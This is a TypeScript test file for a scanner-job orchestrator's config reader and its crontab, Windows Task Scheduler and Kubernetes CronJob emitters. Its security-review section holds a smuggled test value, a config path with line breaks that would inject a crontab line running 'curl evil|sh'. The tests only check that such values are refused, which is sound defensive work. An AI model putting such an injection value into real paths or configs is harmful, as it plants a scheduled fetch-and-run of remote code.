import { readOrchestratorConfig, type Job } from '../../../src/domain/orchestrator/job';
import { crontabLines } from '../../../src/domain/orchestrator/crontab';
import { windowsTaskXml } from '../../../src/domain/orchestrator/windows-task';
import { cronJobManifest } from '../../../src/domain/orchestrator/cron-job-manifest';

const checks = {
  validateCron: (e: string) => (e.split(' ').length >= 5 ? undefined : 'has too few fields'),
  vendors: ['scubagear', 'prowler'],
  resolvePath: (p: string) => `/cfg/${p}`,
};
const job = (over: Record<string, unknown> = {}) => ({
  name: 'm365-daily',
  adapter: 'scubagear',
  input: 'in.json',
  schedule: '0 6 * * *',
  outputs: { bundle: 'out' },
  ...over,
});
const read = (jobs: unknown) => () => readOrchestratorConfig({ jobs }, 'o.json', '/cfg', checks);
const problem = (message: string) => new RegExp(`^${message.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`);

const SOURCE_FIX = 'name the scanner and its scope, such as "nessus-prod-hosts", or leave it out to record the runs as the report\'s scanner and tenant';

describe('readOrchestratorConfig', () => {
  it('resolves paths against the config directory, ndjson sinks included', () => {
    const config = readOrchestratorConfig(
      { jobs: [job({ outputs: { bundle: 'out', store: true, sinks: ['ndjson:e.ndjson', 'syslog+udp://h:514'] } })] },
      'o.json',
      '/cfg',
      checks,
    );
    expect(config.jobs[0]).toEqual({
      name: 'm365-daily',
      adapter: 'scubagear',
      input: '/cfg/in.json',
      schedule: '0 6 * * *',
      outputs: { bundle: '/cfg/out', store: true, sinks: ['ndjson:/cfg/e.ndjson', 'syslog+udp://h:514'] },
    });
  });

  it("keeps a job's source name as given; a job without one has none", () => {
    const config = readOrchestratorConfig(
      { jobs: [job({ name: 'a', source: 'nessus-prod-hosts', outputs: { bundle: 'out', store: true } }), job({ name: 'b' })] },
      'o.json',
      '/cfg',
      checks,
    );
    expect(config.jobs.map((j) => j.source)).toEqual(['nessus-prod-hosts', undefined]);
    expect('source' in config.jobs[1]).toBe(false);
  });

  it.each([
    [[], 'o.json: jobs: expected a non-empty array of jobs, got an array; see docs/orchestrator.md'],
    [
      [job({ name: 'M365' })],
      'o.json: jobs[0].name: expected 1 to 63 lowercase letters, digits and hyphens, starting with a letter or digit (a Kubernetes name), got "M365"; see docs/orchestrator.md',
    ],
    [[job(), job()], 'o.json: jobs[1].name: "m365-daily" is already the name of jobs[0]; job names must be unique; see docs/orchestrator.md'],
    [[job({ adapter: 'nope' })], 'o.json: jobs[0].adapter: unknown adapter "nope" (known: scubagear, prowler); see docs/orchestrator.md'],
    [[job({ input: '' })], `o.json: jobs[0].input: expected the path of the scanner's output file, got ""; see docs/orchestrator.md`],
    [
      [job({ command: 'pwsh' })],
      'o.json: jobs[0].command: expected the program and its arguments as an array of strings, such as ["pwsh", "-File", "run-scuba.ps1"], got "pwsh"; see docs/orchestrator.md',
    ],
    [[job({ schedule: '0 6' })], 'o.json: jobs[0].schedule: "0 6" has too few fields; see docs/orchestrator.md'],
    [[job({ schedule: 6 })], 'o.json: jobs[0].schedule: expected a cron expression such as "0 6 * * *", got number 6; see docs/orchestrator.md'],
    [
      [job({ outputs: undefined })],
      'o.json: jobs[0].outputs: expected an object with "bundle" (and optionally "store", "sinks"), got nothing; see docs/orchestrator.md',
    ],
    [
      [job({ outputs: { bundle: 'o', store: 'yes' } })],
      'o.json: jobs[0].outputs.store: expected true (record each run in the run store) or false, got "yes"; see docs/orchestrator.md',
    ],
    [
      [job({ outputs: { bundle: 'o', sinks: ['ndjson:e'] } })],
      'o.json: jobs[0].outputs.sinks: events come from recording the run: set "store": true as well; see docs/orchestrator.md',
    ],
    [
      [job({ source: ' nessus', outputs: { bundle: 'o', store: true } })],
      `o.json: jobs[0].source: " nessus" is empty or has spaces around it; ${SOURCE_FIX}; see docs/orchestrator.md`,
    ],
    [
      [job({ source: 'line\nbreak', outputs: { bundle: 'o', store: true } })],
      `o.json: jobs[0].source: "line\\nbreak" holds a control or format character; ${SOURCE_FIX}; see docs/orchestrator.md`,
    ],
    [
      [job({ source: 'x'.repeat(129), outputs: { bundle: 'o', store: true } })],
      `o.json: jobs[0].source: "${'x'.repeat(40)}..." is longer than 128 characters; ${SOURCE_FIX}; see docs/orchestrator.md`,
    ],
    [
      [job({ source: 7, outputs: { bundle: 'o', store: true } })],
      `o.json: jobs[0].source: expected a source name, got number 7; ${SOURCE_FIX}; see docs/orchestrator.md`,
    ],
    [
      [job({ source: 'nessus-prod-hosts' })],
      'o.json: jobs[0].source: names the source the runs are recorded as: set "outputs": {"store": true} as well; see docs/orchestrator.md',
    ],
    [[job({ extra: 1 })], 'o.json: jobs[0].extra: unknown setting (known: name, adapter, input, command, schedule, source, outputs); see docs/orchestrator.md'],
  ])('refuses %j', (jobs, message) => {
    expect(read(jobs)).toThrow(problem(message));
  });

  // A key is written as a JSON path: quoted, line breaks escaped, when it is not a plain name (found by
  // test/property/orchestrator-config.property.test.ts: the message had two lines).
  it('quotes an unknown key that is not a plain name, so the message stays one line', () => {
    expect(() => readOrchestratorConfig({ jobs: [job()], 'a\nb': 1 }, 'o.json', '/cfg', checks)).toThrow(
      problem('o.json: ["a\\nb"]: unknown setting (known: jobs, $schema); see docs/orchestrator.md'),
    );
    expect(read([job({ 'x y': 1 })])).toThrow(
      problem('o.json: jobs[0]["x y"]: unknown setting (known: name, adapter, input, command, schedule, source, outputs); see docs/orchestrator.md'),
    );
    expect(read([job({ outputs: { bundle: 'o', '\u0007': true } })])).toThrow(
      problem('o.json: jobs[0].outputs["\\u0007"]: unknown setting (known: bundle, store, sinks); see docs/orchestrator.md'),
    );
  });
});

describe('schedule emitters', () => {
  const base: Job = { name: 'a', adapter: 'scubagear', input: '/i', schedule: '0 6 * * *', outputs: { bundle: '/o', store: false, sinks: [] } };
  it('writes crontab lines quoted for sh, % escaped', () => {
    expect(crontabLines([base], ['/opt/my svc/svc'], '/c/50%.json')).toBe(
      "# svc orchestrator jobs of /c/50%.json\nCRON_TZ=UTC\n0 6 * * * '/opt/my svc/svc' orchestrator dispatch a --config /c/50\\%.json\n",
    );
  });
  it('refuses seconds for the platforms, and unexpressible Windows schedules', () => {
    expect(() => crontabLines([{ ...base, schedule: '* * * * * *' }], ['svc'], '/c')).toThrow(/^job a: schedule "\* \* \* \* \* \*" has a seconds field/);
    expect(() => windowsTaskXml({ ...base, schedule: '0 6 1 * *' }, ['svc'], '/c')).toThrow(
      'job a: schedule "0 6 1 * *" cannot be a Windows Task Scheduler trigger: only daily or weekly times and every N minutes or hours map to Task Scheduler triggers; emit crontab or k8s for it, or change the schedule',
    );
  });
  it('escapes XML and maps hourly repetition', () => {
    const xml = windowsTaskXml({ ...base, schedule: '5 */2 * * *' }, ['svc'], 'C:\\a&b\\o.json');
    expect(xml).toContain('<Arguments>orchestrator dispatch a --config C:\\a&amp;b\\o.json</Arguments>');
    expect(xml).toContain('<Interval>PT2H</Interval>');
    expect(xml).toContain('<StartBoundary>2026-01-01T00:05:00Z</StartBoundary>');
  });
  it('builds a Forbid CronJob', () => {
    expect(cronJobManifest(base, { image: 'img', configName: 'o.json' })).toMatchObject({
      kind: 'CronJob',
      spec: { schedule: '0 6 * * *', concurrencyPolicy: 'Forbid' },
    });
  });
});

// Security review, issue 15: a config path with a line break added lines to `--emit crontab`.
describe('values with control characters in an emitted schedule', () => {
  const base: Job = { name: 'a', adapter: 'scubagear', input: '/i', schedule: '0 6 * * *', outputs: { bundle: '/o', store: false, sinks: [] } };
  const PATH_FIX = 'move or rename the config to a path without control characters and pass it with --config';

  it('refuses a config path with a control character when the config is read, naming the file escaped', () => {
    expect(() => readOrchestratorConfig({ jobs: [job()] }, '/cfg/x\n* * * * * curl evil|sh\n.json', '/cfg', checks)).toThrow(
      problem(
        '"/cfg/x\\n* * * * * curl evil|sh\\n.json": the config path holds the control character U+000A, which would break the lines of an emitted schedule; move or rename the config to a path without control characters; see docs/orchestrator.md',
      ),
    );
    expect(() => readOrchestratorConfig({ jobs: [job()] }, '/cfg/o\u007f.json', '/cfg', checks)).toThrow(
      /^"\/cfg\/o\\u007f\.json": the config path holds the control character U\+007F/,
    );
  });

  it('refuses a schedule with a control character when the config is read', () => {
    expect(read([job({ schedule: '0 6 * * *\r' })])).toThrow(
      problem(
        'o.json: jobs[0].schedule: "0 6 * * *\\r" holds the control character U+000D, which would break an emitted schedule; separate the cron fields with spaces; see docs/orchestrator.md',
      ),
    );
    expect(read([job({ schedule: '0\t6 * * *' })])).toThrow(/^o\.json: jobs\[0\]\.schedule: "0\\t6 \* \* \*" holds the control character U\+0009/);
  });

  it('crontab: refuses a config path or --svc with a control character, and a backslash before %', () => {
    expect(() => crontabLines([base], ['svc'], '/c/x\n* * * * * curl evil|sh\n.json')).toThrow(
      problem(
        `job a: the config path "/c/x\\n* * * * * curl evil|sh\\n.json" holds the control character U+000A, which would break the emitted schedule; ${PATH_FIX}`,
      ),
    );
    expect(() => crontabLines([base], ['/opt/svc\r'], '/c/o.json')).toThrow(
      problem(
        'job a: the svc executable (--svc) "/opt/svc\\r" holds the control character U+000D, which would break the emitted schedule; give --svc a path without control characters or a backslash before %',
      ),
    );
    expect(() => crontabLines([base], ['svc'], '/c/50\\%.json')).toThrow(
      problem(
        `job a: the config path "/c/50\\\\%.json" has a backslash before %, which cron cannot write (it would take the backslash as escaping the %); ${PATH_FIX}`,
      ),
    );
    expect(() => crontabLines([{ ...base, name: 'a\nb' }], ['svc'], '/c/o.json')).toThrow(
      problem(
        'job "a\\nb": name "a\\nb" holds the control character U+000A, which would break the emitted schedule; use 1 to 63 lowercase letters, digits and hyphens',
      ),
    );
    expect(crontabLines([base], ['svc'], '/c/50% done.json')).toBe(
      "# svc orchestrator jobs of /c/50% done.json\nCRON_TZ=UTC\n0 6 * * * svc orchestrator dispatch a --config '/c/50\\% done.json'\n",
    );
  });

  it('k8s: refuses a config name or --image with a control character', () => {
    expect(() => cronJobManifest(base, { image: 'img', configName: 'o\n.json' })).toThrow(
      problem(`job a: the config path "o\\n.json" holds the control character U+000A, which would break the emitted schedule; ${PATH_FIX}`),
    );
    expect(() => cronJobManifest(base, { image: 'img\u0000', configName: 'o.json' })).toThrow(
      problem(
        'job a: the image (--image) "img\\u0000" holds the control character U+0000, which would break the emitted schedule; give --image a reference without control characters',
      ),
    );
    expect(() => cronJobManifest({ ...base, schedule: '0 6 * * *\n' }, { image: 'img', configName: 'o.json' })).toThrow(
      problem(
        'job a: schedule "0 6 * * *\\n" holds the control character U+000A, which would break the emitted schedule; separate the cron fields with spaces',
      ),
    );
  });

  it('windows-task: refuses a config path or --svc with a control character', () => {
    expect(() => windowsTaskXml(base, ['svc'], 'C:\\c\\o\u0007.json')).toThrow(
      problem(`job a: the config path "C:\\\\c\\\\o\\u0007.json" holds the control character U+0007, which would break the emitted schedule; ${PATH_FIX}`),
    );
    expect(() => windowsTaskXml(base, ['C:\\svc\n.exe'], 'C:\\o.json')).toThrow(
      problem(
        'job a: the svc executable (--svc) "C:\\\\svc\\n.exe" holds the control character U+000A, which would break the emitted schedule; give --svc a path without control characters',
      ),
    );
  });
});
